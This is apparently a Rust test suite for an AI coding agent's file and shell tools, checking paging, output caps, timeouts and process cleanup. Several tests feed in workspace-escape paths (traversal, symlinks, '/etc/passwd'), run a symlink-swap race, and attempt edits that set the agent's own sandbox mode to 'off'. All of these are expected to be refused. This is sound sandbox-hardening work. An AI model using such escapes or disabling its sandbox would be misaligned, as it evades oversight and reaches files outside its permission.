//! The model's tools through `tools::run`, on real files and real commands.

use crate::support::text::{has, starts};
use crate::support::tools as tool_support;

use std::os::unix::fs::symlink;
use std::time::{Duration, Instant};

use neocode::runtime::tools::{self, ToolKind};
use serde_json::json;
use tool_support::{Space, assert_refused, call, eventually, exists, sh, sh_cancelled_after};

#[test]
fn registry_lists_every_tool_with_a_schema() {
    let names: Vec<&str> = tools::specs().iter().map(|s| s.name).collect();
    assert_eq!(
        names,
        [
            "read_file",
            "list_dir",
            "grep",
            "write_file",
            "edit_file",
            "run_command",
            "web_fetch",
            "update_plan"
        ]
    );
    for s in tools::specs() {
        let schema = (s.parameters)();
        assert_eq!(schema["type"], "object", "{}", s.name);
    }
    assert_eq!(tools::spec("grep").unwrap().kind, ToolKind::Read);
    assert_eq!(tools::spec("edit_file").unwrap().kind, ToolKind::Edit);
    assert_eq!(tools::spec("run_command").unwrap().kind, ToolKind::Command);
    assert_eq!(tools::spec("web_fetch").unwrap().kind, ToolKind::Fetch);
}

#[test]
fn unknown_tools_bad_arguments_and_update_plan_are_error_results() {
    let s = Space::new();
    let ctx = s.ctx();
    assert!(tools::run("rm_rf", "{}", &ctx).is_error);
    let out = tools::run("read_file", "{not json", &ctx);
    assert_refused(&out, "bad arguments");
    let out = tools::run("read_file", r#"{"path": 5}"#, &ctx);
    assert_refused(&out, "`path`");
    let out = call(&ctx, "update_plan", json!({"steps": []}));
    assert_refused(&out, "agent");
}

#[test]
fn summaries_name_the_path_command_or_pattern() {
    assert_eq!(
        tools::summary("read_file", r#"{"path":"src/main.rs"}"#),
        "read_file src/main.rs"
    );
    assert_eq!(
        tools::summary("run_command", r#"{"command":"cargo test\necho more"}"#),
        "run_command cargo test …"
    );
    assert_eq!(
        tools::summary("grep", r#"{"pattern":"fn main","glob":"*.rs"}"#),
        "grep fn main (*.rs)"
    );
    assert_eq!(tools::summary("list_dir", "{}"), "list_dir .");
    assert_eq!(tools::summary("edit_file", "garbage"), "edit_file");
}

#[test]
fn each_file_tool_says_what_it_changes_and_others_change_nothing() {
    assert_eq!(
        tools::preview(
            "edit_file",
            r#"{"path":"a","old_string":"x","new_string":"y"}"#
        ),
        Some(tools::Preview {
            old: Some("x".into()),
            new: Some("y".into()),
        })
    );
    assert_eq!(
        tools::preview("write_file", r#"{"path":"a","content":"z"}"#),
        Some(tools::Preview {
            old: None,
            new: Some("z".into()),
        })
    );
    assert_eq!(tools::preview("read_file", r#"{"path":"a"}"#), None);
    assert_eq!(tools::preview("edit_file", "garbage"), None);
    assert_eq!(
        tools::summary("update_plan", r#"{"steps":[{"id":"a","title":"t"}]}"#),
        "update_plan (1 steps)"
    );
}

#[test]
fn read_file_numbers_lines_and_pages_with_offset_and_limit() {
    let s = Space::new();
    let body: String = (1..=10).map(|i| format!("line {i}\n")).collect();
    s.write("a.txt", body);
    let ctx = s.ctx();
    let out = call(&ctx, "read_file", json!({"path": "a.txt"}));
    assert!(!out.is_error, "{}", out.text);
    starts(&out.text, "     1\tline 1\n     2\tline 2\n");
    assert!(out.text.contains("    10\tline 10\n"));

    let out = call(
        &ctx,
        "read_file",
        json!({"path": "a.txt", "offset": 4, "limit": 2}),
    );
    assert_eq!(
        out.text,
        "     4\tline 4\n     5\tline 5\n(showing lines 4-5; more follow, continue with offset=6)\n"
    );
    let out = call(&ctx, "read_file", json!({"path": "a.txt", "offset": 50}));
    assert_refused(&out, "past the end");
    let out = call(&ctx, "read_file", json!({"path": "missing.txt"}));
    assert_refused(&out, "missing.txt");
    s.write("d/x", "x");
    let out = call(&ctx, "read_file", json!({"path": "d"}));
    assert_refused(&out, "list_dir");
}

#[test]
fn read_file_says_binary_instead_of_dumping_it() {
    let s = Space::new();
    let mut bytes = b"\x7fELF\x02\x01\x01\x00\x00\x00".to_vec();
    bytes.extend(std::iter::repeat_n(0xAAu8, 5000));
    s.write("prog.bin", &bytes);
    let out = call(&s.ctx(), "read_file", json!({"path": "prog.bin"}));
    assert!(!out.is_error);
    assert_eq!(
        out.text,
        "prog.bin is a binary file (5010 bytes); its content is not shown."
    );
    assert_eq!(out.metadata.unwrap()["binary"], true);
}

#[test]
fn read_file_shows_invalid_utf8_lossily_with_a_note() {
    let s = Space::new();
    s.write("latin1.txt", b"caf\xe9 au lait\nok\n");
    let out = call(&s.ctx(), "read_file", json!({"path": "latin1.txt"}));
    assert!(!out.is_error, "{}", out.text);
    has(&out.text, "     1\tcaf\u{FFFD} au lait\n");
    assert!(out.text.contains("not valid UTF-8"), "{}", out.text);
    assert_eq!(out.metadata.unwrap()["lossy_utf8"], true);
}

#[test]
fn read_file_caps_what_it_returns() {
    let s = Space::new();
    let body: String = (0..20_000).map(|i| format!("{i:>40}\n")).collect();
    s.write("big.txt", body);
    let mut ctx = s.ctx();
    ctx.output_cap = 4096;
    let out = call(&ctx, "read_file", json!({"path": "big.txt"}));
    assert!(out.text.len() < 4096 + 200, "{}", out.text.len());
    assert!(out.text.contains("more follow, continue with offset="));
}

#[test]
fn read_file_cuts_one_huge_line_and_refuses_fifos() {
    let s = Space::new();
    let mut body = "x".repeat(1_000_000);
    body.push_str("\nsecond\n");
    s.write("min.js", body);
    let ctx = s.ctx();
    let out = call(&ctx, "read_file", json!({"path": "min.js"}));
    assert!(out.text.len() < 3000, "{}", out.text.len());
    assert!(out.text.contains("(line cut)"), "{}", &out.text[..100]);
    assert!(out.text.contains("     2\tsecond\n"), "{}", out.text);

    let fifo = s.root.join("pipe");
    assert!(
        std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    for (tool, args) in [
        ("read_file", json!({"path": "pipe"})),
        ("write_file", json!({"path": "pipe", "content": "x"})),
        (
            "edit_file",
            json!({"path": "pipe", "old_string": "a", "new_string": "b"}),
        ),
    ] {
        let out = call(&ctx, tool, args);
        assert!(
            out.is_error && out.text.contains("not a regular file"),
            "{tool}: {}",
            out.text
        );
    }
}

#[test]
fn list_dir_is_sorted_respects_gitignore_and_caps() {
    let s = Space::new();
    s.write(".gitignore", "target/\n*.log\n");
    s.write("b.rs", "");
    s.write("a.rs", "");
    s.write("debug.log", "");
    s.write("target/out.o", "");
    s.write("src/lib.rs", "");
    s.write(".git/HEAD", "ref");
    let ctx = s.ctx();
    let out = call(&ctx, "list_dir", json!({}));
    assert_eq!(
        out.text, "./\n  .gitignore\n  a.rs\n  b.rs\n  src/\n    lib.rs\n",
        "{}",
        out.text
    );
    let out = call(&ctx, "list_dir", json!({"path": "src", "depth": 1}));
    assert_eq!(out.text, "src/\n  lib.rs\n");

    for i in 0..620 {
        s.write(&format!("many/f{i:04}"), "");
    }
    let out = call(&ctx, "list_dir", json!({"path": "many"}));
    assert!(out.text.contains("  f0000\n"));
    assert!(
        out.text.ends_with("… 120 more\n"),
        "{}",
        &out.text[out.text.len() - 40..]
    );
}

#[test]
fn grep_finds_lines_respects_gitignore_and_reports_bad_regex() {
    let s = Space::new();
    s.write(".gitignore", "ignored/\n");
    s.write("src/main.rs", "fn main() {\n    println!(\"Hello\");\n}\n");
    s.write("src/lib.rs", "pub fn hello() {}\n");
    s.write("ignored/copy.rs", "fn main() {}\n");
    s.write("notes.md", "HELLO in caps\n");
    s.write("blob.bin", b"fn main\x00\x01\x02");
    let ctx = s.ctx();
    let out = call(&ctx, "grep", json!({"pattern": "fn main"}));
    assert_eq!(out.text, "src/main.rs:1:fn main() {\n", "{}", out.text);

    let out = call(
        &ctx,
        "grep",
        json!({"pattern": "hello", "case_insensitive": true}),
    );
    assert_eq!(
        out.text,
        "notes.md:1:HELLO in caps\nsrc/lib.rs:1:pub fn hello() {}\nsrc/main.rs:2:    println!(\"Hello\");\n"
    );
    let out = call(
        &ctx,
        "grep",
        json!({"pattern": "hello", "case_insensitive": true, "glob": "*.rs", "path": "src"}),
    );
    assert_eq!(out.text.lines().count(), 2, "{}", out.text);

    let out = call(&ctx, "grep", json!({"pattern": "fn (main"}));
    assert_refused(&out, "bad regular expression");
    let out = call(&ctx, "grep", json!({"pattern": "nothing-like-this"}));
    assert!(
        !out.is_error && out.text.starts_with("no matches"),
        "{}",
        out.text
    );
}

#[test]
fn grep_caps_matches() {
    let s = Space::new();
    let body: String = (0..500).map(|i| format!("needle {i}\n")).collect();
    s.write("hay.txt", body);
    let out = call(&s.ctx(), "grep", json!({"pattern": "needle"}));
    assert_eq!(
        out.text
            .lines()
            .filter(|l| l.starts_with("hay.txt:"))
            .count(),
        200
    );
    assert!(out.text.contains("… 300 more matches"), "{}", out.text);
}

#[test]
fn write_file_creates_parents_and_returns_a_diff() {
    let s = Space::new();
    let ctx = s.ctx();
    let out = call(
        &ctx,
        "write_file",
        json!({"path": "deep/er/new.txt", "content": "one\ntwo\n"}),
    );
    assert!(!out.is_error, "{}", out.text);
    assert_eq!(s.read("deep/er/new.txt"), "one\ntwo\n");
    let meta = out.metadata.unwrap();
    assert_eq!(meta["path"], "deep/er/new.txt");
    assert_eq!(meta["created"], true);
    assert_eq!(meta["added"], 2);
    let diff = meta["diff"].as_str().unwrap();
    has(diff, "--- /dev/null\n+++ b/deep/er/new.txt\n");
    assert!(diff.contains("+one\n+two\n"), "{diff}");

    let out = call(
        &ctx,
        "write_file",
        json!({"path": "deep/er/new.txt", "content": "one\nthree\n"}),
    );
    let meta = out.metadata.unwrap();
    assert_eq!(meta["created"], false);
    let diff = meta["diff"].as_str().unwrap();
    assert!(diff.contains("-two\n+three\n"), "{diff}");
    let out = call(&ctx, "write_file", json!({"path": "deep", "content": "x"}));
    assert_refused(&out, "folder");
}

#[test]
fn edit_file_needs_exactly_one_match() {
    let s = Space::new();
    s.write("f.rs", "let a = 1;\nlet b = 1;\nlet c = 2;\n");
    let ctx = s.ctx();
    let out = call(
        &ctx,
        "edit_file",
        json!({"path": "f.rs", "old_string": "= 1;", "new_string": "= 9;"}),
    );
    assert!(out.is_error, "{}", out.text);
    assert!(out.text.contains("occurs 2 times"), "{}", out.text);
    let out = call(
        &ctx,
        "edit_file",
        json!({"path": "f.rs", "old_string": "let z", "new_string": "x"}),
    );
    assert_refused(&out, "0 matches");
    assert_eq!(s.read("f.rs"), "let a = 1;\nlet b = 1;\nlet c = 2;\n");

    let out = call(
        &ctx,
        "edit_file",
        json!({"path": "f.rs", "old_string": "let b = 1;", "new_string": "let b = 7;"}),
    );
    assert!(!out.is_error, "{}", out.text);
    assert_eq!(s.read("f.rs"), "let a = 1;\nlet b = 7;\nlet c = 2;\n");
    let diff = out.metadata.unwrap()["diff"].as_str().unwrap().to_string();
    assert!(diff.contains("--- a/f.rs\n+++ b/f.rs\n"), "{diff}");
    assert!(diff.contains("-let b = 1;\n+let b = 7;\n"), "{diff}");
}

/// Every way out of the workspace, for every file tool: the call is an error that says
/// it was refused, and nothing outside changes.
#[test]
fn every_path_escape_is_refused() {
    let s = Space::new();
    let secret = s.outside.join("secret.txt");
    std::fs::write(&secret, "outside secret\n").unwrap();
    s.write("inside.txt", "inside\n");
    symlink(&secret, s.root.join("link_file")).unwrap();
    symlink(&s.outside, s.root.join("link_dir")).unwrap();
    symlink(s.outside.join("not-yet.txt"), s.root.join("dangling")).unwrap();
    std::fs::create_dir(s.root.join("sub")).unwrap();
    symlink("../../outside", s.root.join("sub/up")).unwrap();
    let ctx = s.ctx();
    let secret_abs = secret.to_str().unwrap().to_string();
    let escapes = [
        "../outside/secret.txt".to_string(),
        "sub/../../outside/secret.txt".to_string(),
        secret_abs,
        "/etc/passwd".to_string(),
        "link_file".to_string(),
        "link_dir/secret.txt".to_string(),
        "sub/up/secret.txt".to_string(),
        "dangling".to_string(),
        "link_dir/new.txt".to_string(),
    ];
    for p in &escapes {
        let calls = [
            ("read_file", json!({"path": p})),
            ("list_dir", json!({"path": p})),
            ("grep", json!({"pattern": "secret", "path": p})),
            ("write_file", json!({"path": p, "content": "pwned"})),
            (
                "edit_file",
                json!({"path": p, "old_string": "outside", "new_string": "pwned"}),
            ),
        ];
        for (tool, args) in calls {
            let out = call(&ctx, tool, args);
            assert!(out.is_error, "{tool} {p} was not refused: {}", out.text);
            assert!(out.text.contains("refused"), "{tool} {p}: {}", out.text);
            assert!(!out.text.contains("outside secret"), "{tool} {p} leaked");
        }
    }
    assert_eq!(
        std::fs::read_to_string(&secret).unwrap(),
        "outside secret\n"
    );
    assert!(!exists(&s.outside.join("new.txt")));
    assert!(!exists(&s.outside.join("not-yet.txt")));

    // grep over the whole workspace does not follow the symlinks out either.
    let out = call(&ctx, "grep", json!({"pattern": "outside secret"}));
    assert!(out.text.starts_with("no matches"), "{}", out.text);
    // An absolute path inside the workspace is fine.
    let inside = s.root.join("inside.txt");
    let out = call(&ctx, "read_file", json!({"path": inside.to_str().unwrap()}));
    assert!(!out.is_error && out.text.contains("inside"), "{}", out.text);
}

#[test]
fn run_command_reports_exit_code_and_output() {
    let s = Space::new();
    let ctx = s.ctx();
    let out = sh(&ctx, "echo out; echo err >&2; exit 3");
    assert!(!out.is_error, "a failing command is not a failed call");
    assert!(
        out.text.contains("out\n") && out.text.contains("err\n"),
        "{}",
        out.text
    );
    assert!(out.text.contains("[exit code 3"), "{}", out.text);
    let meta = out.metadata.unwrap();
    assert_eq!(meta["exit_code"], 3);
    assert_eq!(meta["timed_out"], false);

    let out = sh(&ctx, "pwd");
    starts(&out.text, &format!("{}\n", s.root.display()));
    let out = call(&ctx, "run_command", json!({"command": "  "}));
    assert!(out.is_error);
}

#[test]
fn run_command_output_keeps_head_and_tail() {
    let s = Space::new();
    let mut ctx = s.ctx();
    ctx.output_cap = 2000;
    let out = sh(&ctx, "seq 1 100000");
    assert!(out.text.starts_with("1\n2\n3\n"), "{}", &out.text[..50]);
    assert!(out.text.contains("99999\n100000\n"), "{}", out.text);
    assert!(out.text.contains(" bytes cut …\n"), "{}", out.text);
    assert!(out.text.len() < 2300, "{}", out.text.len());
    let meta = out.metadata.unwrap();
    assert_eq!(meta["output_bytes"], 588_895);
    assert_eq!(meta["cut_bytes"], 588_895 - 2000);
}

/// Asserts that the writer loop started into `bg.log` ran and is dead (`what` says who else
/// it would have outlived).
#[track_caller]
fn assert_bg_log_stopped(s: &Space, what: &str) {
    let log = s.root.join("bg.log");
    assert!(log.exists());
    if let Err(e) = tool_support::stopped_growing(&[log]) {
        panic!("{what}: {e}");
    }
}

#[test]
fn run_command_timeout_kills_the_whole_process_group() {
    let s = Space::new();
    let ctx = s.ctx();
    let started = Instant::now();
    let out = call(
        &ctx,
        "run_command",
        json!({"command": format!("({}) & sleep 0.5; echo started; sleep 300", tool_support::writer_loop("bg.log")), "timeout_secs": 2}),
    );
    assert!(started.elapsed() < Duration::from_secs(20));
    assert!(out.text.contains("started"), "{}", out.text);
    assert!(out.text.contains("timed out after 2 s"), "{}", out.text);
    assert_eq!(out.metadata.unwrap()["timed_out"], true);
    assert_bg_log_stopped(&s, "the backgrounded grandchild survived the timeout");
}

#[test]
fn a_command_flooding_output_still_times_out() {
    let s = Space::new();
    let started = Instant::now();
    let out = call(
        &s.ctx(),
        "run_command",
        json!({"command": "yes neocode", "timeout_secs": 1}),
    );
    assert!(started.elapsed() < Duration::from_secs(15));
    assert!(
        out.text.starts_with("neocode\nneocode\n"),
        "{}",
        &out.text[..40]
    );
    assert!(out.text.contains("bytes cut"), "{}", out.text.len());
    assert!(out.text.contains("timed out after 1 s"));
    assert!(out.text.len() < 31_000, "{}", out.text.len());
}

#[test]
fn run_command_timeout_is_capped_by_the_session_limit() {
    let s = Space::new();
    let mut ctx = s.ctx();
    ctx.command_timeout = Duration::from_secs(1);
    let started = Instant::now();
    let out = call(
        &ctx,
        "run_command",
        json!({"command": "sleep 30", "timeout_secs": 3600}),
    );
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(out.text.contains("timed out after 1 s"), "{}", out.text);
}

#[test]
fn background_processes_die_when_the_command_ends() {
    let s = Space::new();
    let ctx = s.ctx();
    let started = Instant::now();
    let out = sh(
        &ctx,
        &format!("({}) & sleep 0.5", tool_support::writer_loop("bg.log")),
    );
    assert!(started.elapsed() < Duration::from_secs(10), "{}", out.text);
    assert!(out.text.contains("[exit code 0"), "{}", out.text);
    assert_bg_log_stopped(&s, "a background process survived");
}

#[test]
fn cancel_kills_the_running_command() {
    let s = Space::new();
    let started = Instant::now();
    let out = sh_cancelled_after(
        &s.ctx(),
        &format!("({}) & sleep 120", tool_support::writer_loop("bg.log")),
        Duration::from_millis(500),
    );
    assert!(started.elapsed() < Duration::from_secs(10));
    assert!(out.text.contains("cancelled by the user"), "{}", out.text);
    assert_eq!(out.metadata.unwrap()["cancelled"], true);
    assert_bg_log_stopped(&s, "a background process survived the cancel");
}

#[test]
fn the_command_dies_with_neocode() {
    // A neocode stand-in: a child process that runs the tool and is then killed. The
    // command (PR_SET_PDEATHSIG) must die with it.
    let s = Space::new();
    let mut stand_in = crate::support::tools::stand_in(module_path!(), "pdeathsig_stand_in")
        .env("NEOCODE_STAND_IN_ROOT", &s.root)
        .spawn()
        .unwrap();
    let log = s.root.join("cmd.log");
    assert!(
        eventually(20, || log.exists()),
        "the stand-in never started the command"
    );
    stand_in.kill().unwrap();
    stand_in.wait().unwrap();
    std::thread::sleep(Duration::from_millis(300));
    if let Err(e) = tool_support::stopped_growing(&[log]) {
        panic!("the command outlived neocode: {e}");
    }
}

#[test]
#[ignore = "run by the_command_dies_with_neocode in a child process"]
fn pdeathsig_stand_in() {
    let Some(root) = std::env::var_os("NEOCODE_STAND_IN_ROOT") else {
        return;
    };
    tool_support::init();
    let ctx = neocode::runtime::tools::ToolContext::new(root);
    sh(&ctx, &tool_support::writer_loop("cmd.log"));
}

/// The command folders (`neocode-cmd-*`) in `tmp`.
fn command_folders(tmp: &std::path::Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(tmp)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("neocode-cmd-"))
        .collect();
    names.sort();
    names
}

/// A neocode stand-in running `command` as `run_command` with its own `TMPDIR`.
fn command_stand_in(
    root: &std::path::Path,
    tmp: &std::path::Path,
    command: &str,
) -> std::process::Child {
    crate::support::tools::stand_in(module_path!(), "run_command_stand_in")
        .env("NEOCODE_STAND_IN_ROOT", root)
        .env("NEOCODE_STAND_IN_COMMAND", command)
        .env("TMPDIR", tmp)
        .spawn()
        .unwrap()
}

#[test]
fn folders_of_killed_commands_are_swept_by_the_next_neocode() {
    let s = Space::new();
    let tmp = tempfile::tempdir().unwrap();
    // A neocode killed mid-command leaves its command folder behind.
    let mut killed = command_stand_in(&s.root, tmp.path(), "echo $$ > cmd.pid; exec sleep 120");
    let pid_file = s.root.join("cmd.pid");
    assert!(
        eventually(20, || std::fs::read_to_string(&pid_file)
            .is_ok_and(|t| t.ends_with('\n'))),
        "the stand-in never started the command"
    );
    killed.kill().unwrap();
    killed.wait().unwrap();
    let leaked = command_folders(tmp.path());
    assert_eq!(leaked.len(), 1, "{leaked:?}");
    assert!(
        leaked[0].starts_with(&format!("neocode-cmd-{}-", killed.id())),
        "{leaked:?}"
    );
    // One of a process that ended normally but whose folder stayed, one of a live process.
    let mut child = std::process::Command::new("true").spawn().unwrap();
    child.wait().unwrap();
    let dead = tmp
        .path()
        .join(format!("neocode-cmd-{}-0-00000000", child.id()));
    let live = tmp
        .path()
        .join(format!("neocode-cmd-{}-0-00000000", std::process::id()));
    for d in [&dead, &live] {
        std::fs::create_dir(d).unwrap();
        std::fs::write(d.join("work.txt"), "in use").unwrap();
    }

    let mut next = command_stand_in(&s.root, tmp.path(), "echo ran > next.txt");
    assert!(next.wait().unwrap().success());
    assert_eq!(s.read("next.txt"), "ran\n");
    assert!(
        !tmp.path().join(&leaked[0]).exists(),
        "the killed command's folder leaked"
    );
    assert!(!dead.exists(), "the dead process's folder leaked");
    assert_eq!(
        std::fs::read_to_string(live.join("work.txt")).unwrap(),
        "in use"
    );
    // The next command's own folder went with its command.
    assert_eq!(
        command_folders(tmp.path()),
        [live.file_name().unwrap().to_string_lossy()]
    );
}

#[test]
#[ignore = "run by folders_of_killed_commands_are_swept_by_the_next_neocode in a child process"]
fn run_command_stand_in() {
    let (Some(root), Some(command)) = (
        std::env::var_os("NEOCODE_STAND_IN_ROOT"),
        std::env::var("NEOCODE_STAND_IN_COMMAND").ok(),
    ) else {
        return;
    };
    tool_support::init();
    let ctx = neocode::runtime::tools::ToolContext::new(root);
    let out = sh(&ctx, &command);
    assert!(!out.is_error, "{}", out.text);
}

mod escape_property {
    use super::*;
    use proptest::prelude::*;

    const PARTS: &[&str] = &[
        "a",
        "b",
        "..",
        ".",
        "out_link",
        "f_out",
        "up",
        "f.txt",
        "secret.txt",
        "new",
        "ws",
        "outside",
        "",
    ];

    fn path_strategy() -> impl Strategy<Value = (u8, Vec<usize>)> {
        (0u8..4, proptest::collection::vec(0..PARTS.len(), 1..7))
    }

    fn everything_under(dir: &std::path::Path) -> Vec<(String, String)> {
        let mut out = Vec::new();
        for e in std::fs::read_dir(dir).unwrap() {
            let e = e.unwrap();
            let ft = e.file_type().unwrap();
            let name = e.file_name().to_string_lossy().into_owned();
            let body = if ft.is_file() {
                std::fs::read_to_string(e.path()).unwrap_or_default()
            } else {
                format!("{ft:?}")
            };
            out.push((name, body));
        }
        out.sort();
        out
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 128, ..ProptestConfig::default() })]

        /// Whatever path the model makes up, the file tools never read from or write to
        /// anything outside the workspace.
        #[test]
        fn no_path_reaches_outside((prefix, parts) in path_strategy()) {
            let s = Space::new();
            let base = s.root.parent().unwrap().to_path_buf();
            std::fs::write(s.outside.join("secret.txt"), "OUTSIDE").unwrap();
            s.write("a/f.txt", "inside");
            symlink("a", s.root.join("b")).unwrap();
            symlink("../outside", s.root.join("out_link")).unwrap();
            symlink("../outside/secret.txt", s.root.join("f_out")).unwrap();
            symlink("../..", s.root.join("a/up")).unwrap();
            let rel: Vec<&str> = parts.iter().map(|&i| PARTS[i]).collect();
            let rel = rel.join("/");
            let path = match prefix {
                0 => rel,
                1 => format!("{}/{rel}", s.root.display()),
                2 => format!("{}/{rel}", base.display()),
                _ => format!("/{rel}"),
            };
            let before = everything_under(&s.outside);
            let ctx = s.ctx();
            let read = call(&ctx, "read_file", json!({"path": path}));
            prop_assert!(!read.text.contains("OUTSIDE"), "read {path}: {}", read.text);
            let listed = call(&ctx, "list_dir", json!({"path": path}));
            prop_assert!(!listed.text.contains("\n  secret.txt"), "list {path}: {}", listed.text);
            let found = call(&ctx, "grep", json!({"pattern": "OUTSIDE", "path": path}));
            prop_assert!(!found.text.contains(":1:OUTSIDE"), "grep {path}: {}", found.text);
            call(&ctx, "write_file", json!({"path": path, "content": "PWNED"}));
            call(&ctx, "edit_file", json!({"path": path, "old_string": "OUTSIDE", "new_string": "PWNED"}));
            prop_assert_eq!(everything_under(&s.outside), before, "{}", path);
            let top: Vec<String> = everything_under(&base).into_iter().map(|(n, _)| n).collect();
            prop_assert_eq!(top, vec!["outside".to_string(), "ws".to_string()]);
        }
    }
}

#[test]
fn edit_file_returns_the_unified_diff_to_the_model_capped() {
    let s = Space::new();
    s.write("stats.py", "def mean(xs):\n    return sum(xs) / len(xs)\n");
    let ctx = s.ctx();
    let out = call(
        &ctx,
        "edit_file",
        json!({"path": "stats.py", "old_string": "sum(xs) / len(xs)", "new_string": "sum(xs) / max(len(xs), 1)"}),
    );
    assert!(!out.is_error, "{}", out.text);
    starts(&out.text, "edited stats.py (+1 -1 lines):\n");
    has(&out.text, "--- a/stats.py\n+++ b/stats.py\n");
    assert!(
        out.text
            .contains("-    return sum(xs) / len(xs)\n+    return sum(xs) / max(len(xs), 1)\n"),
        "{}",
        out.text
    );
    // A huge edit: the diff is cut and says so.
    let big: String = (0..500).map(|i| format!("line {i}\n")).collect();
    s.write("big.txt", "START\n");
    let out = call(
        &ctx,
        "edit_file",
        json!({"path": "big.txt", "old_string": "START\n", "new_string": big}),
    );
    assert!(!out.is_error, "{}", out.text);
    assert!(out.text.lines().count() < 100, "{}", out.text);
    assert!(out.text.contains("more diff lines"), "{}", out.text);
}

/// Swaps `a` and `b` (two names in one folder) with `renameat2(RENAME_EXCHANGE)` until told
/// to stop (or 60 s pass); returns how many swaps succeeded.
fn exchange_loop(
    a: std::path::PathBuf,
    b: std::path::PathBuf,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
) -> std::thread::JoinHandle<u64> {
    use std::os::unix::ffi::OsStrExt;
    std::thread::spawn(move || {
        let ca = std::ffi::CString::new(a.as_os_str().as_bytes()).unwrap();
        let cb = std::ffi::CString::new(b.as_os_str().as_bytes()).unwrap();
        let deadline = Instant::now() + Duration::from_secs(60);
        let mut swaps = 0u64;
        while !stop.load(std::sync::atomic::Ordering::Relaxed) && Instant::now() < deadline {
            // SAFETY: two NUL-terminated paths.
            let rc = unsafe {
                libc::renameat2(
                    libc::AT_FDCWD,
                    ca.as_ptr(),
                    libc::AT_FDCWD,
                    cb.as_ptr(),
                    libc::RENAME_EXCHANGE,
                )
            };
            if rc == 0 {
                swaps += 1;
            }
        }
        swaps
    })
}

/// What a folder holds: (name, content) sorted.
fn contents(dir: &std::path::Path) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| {
            let e = e.unwrap();
            let content = std::fs::read_to_string(e.path()).unwrap_or_default();
            (e.file_name().to_string_lossy().into_owned(), content)
        })
        .collect();
    out.sort();
    out
}

/// The race of issue 22: while something swaps a workspace folder with a symlink to an
/// outside folder in a loop, 2,000 write_file/edit_file calls into that folder (half of them
/// with the component walk used where openat2 is missing) never create or change anything
/// outside. Reads (read_file, grep) never return the outside content either.
#[test]
fn a_folder_swapped_for_an_outside_link_never_lets_a_file_tool_out() {
    for fallback in [false, true] {
        let s = Space::new();
        s.write("dir/f.txt", "MARK inside\n");
        std::fs::write(s.outside.join("f.txt"), "MARK outside secret\n").unwrap();
        symlink(&s.outside, s.root.join("swap")).unwrap();
        let before = contents(&s.outside);
        let ctx = s.ctx();
        tools::force_walk_fallback(fallback);
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let racer = exchange_loop(s.root.join("dir"), s.root.join("swap"), stop.clone());
        let started = Instant::now();
        let mut ok = 0;
        let mut leaked = Vec::new();
        for i in 0..1000 {
            if started.elapsed() > Duration::from_secs(50) {
                break;
            }
            let w = call(
                &ctx,
                "write_file",
                json!({"path": format!("dir/n{}.txt", i % 50), "content": format!("MARK {i}\n")}),
            );
            let e = call(
                &ctx,
                "edit_file",
                json!({"path": "dir/f.txt", "old_string": "MARK", "new_string": "MARK!"}),
            );
            let r = call(&ctx, "read_file", json!({"path": "dir/f.txt"}));
            ok += usize::from(!w.is_error) + usize::from(!e.is_error);
            if r.text.contains("outside secret") {
                leaked.push(r.text);
            }
        }
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        let swaps = racer.join().unwrap();
        tools::force_walk_fallback(false);
        eprintln!(
            "fallback {fallback}: {swaps} swaps, {ok} writes ok in {:?}",
            started.elapsed()
        );
        assert!(swaps > 100, "the racer barely ran ({swaps} swaps)");
        assert!(ok > 0, "no call got through at all (fallback {fallback})");
        assert!(leaked.is_empty(), "read_file read outside: {:?}", leaked[0]);
        assert_eq!(
            contents(&s.outside),
            before,
            "something outside changed (fallback {fallback}, {swaps} swaps, {ok} calls ok)"
        );
    }
}

/// neocode's home inside the workspace (a workspace of `~`): the file tools refuse to write
/// there, by any path, and say why.
#[test]
fn the_file_tools_never_write_inside_neocodes_home() {
    let s = Space::new();
    s.write(
        ".neocode/config.toml",
        "[sandbox]\nmode = \"workspace-write\"\n",
    );
    s.write(".neocode/projects/x/session.db", "db");
    symlink(".neocode", s.root.join("h")).unwrap();
    let mut ctx = s.ctx();
    ctx.home = Some(s.root.join(".neocode"));
    let writes = [
        (
            "write_file",
            json!({"path": ".neocode/config.toml", "content": "[sandbox]\nmode = \"off\"\n"}),
        ),
        (
            "write_file",
            json!({"path": "h/config.toml", "content": "[sandbox]\nmode = \"off\"\n"}),
        ),
        (
            "write_file",
            json!({"path": ".neocode/projects/new/x.txt", "content": "x"}),
        ),
        ("write_file", json!({"path": ".neocode", "content": "x"})),
        (
            "edit_file",
            json!({"path": ".neocode/config.toml", "old_string": "workspace-write", "new_string": "off"}),
        ),
        (
            "edit_file",
            json!({"path": "./h/../.neocode/config.toml", "old_string": "workspace-write", "new_string": "off"}),
        ),
        (
            "edit_file",
            json!({"path": ".neocode/projects/x/session.db", "old_string": "db", "new_string": "pwned"}),
        ),
    ];
    for (tool, args) in writes {
        let out = call(&ctx, tool, args.clone());
        assert!(out.is_error, "{tool} {args} was not refused: {}", out.text);
        assert!(
            out.text.contains("neocode's home") || out.text.contains("folder"),
            "{tool} {args}: {}",
            out.text
        );
    }
    assert_eq!(
        s.read(".neocode/config.toml"),
        "[sandbox]\nmode = \"workspace-write\"\n"
    );
    assert_eq!(s.read(".neocode/projects/x/session.db"), "db");
    assert!(!exists(&s.root.join(".neocode/projects/new")));
    // Elsewhere in the workspace writing works as before.
    let out = call(
        &ctx,
        "write_file",
        json!({"path": "notes.txt", "content": "ok"}),
    );
    assert!(!out.is_error, "{}", out.text);
}

/// Rewind's recording (issue 26): the file tools hand back the file before and after with
/// their result; a file over the 10 MiB cap is not kept, and the result says so.
#[test]
fn file_tools_return_their_before_images_and_say_when_one_is_over_the_cap() {
    use neocode::session::{FileChange, Image};
    let s = Space::new();
    let ctx = s.ctx();
    s.write("small.txt", "one\n");
    let out = call(
        &ctx,
        "edit_file",
        json!({"path": "small.txt", "old_string": "one", "new_string": "two"}),
    );
    let FileChange::Written {
        path,
        before,
        after,
    } = &out.files[0]
    else {
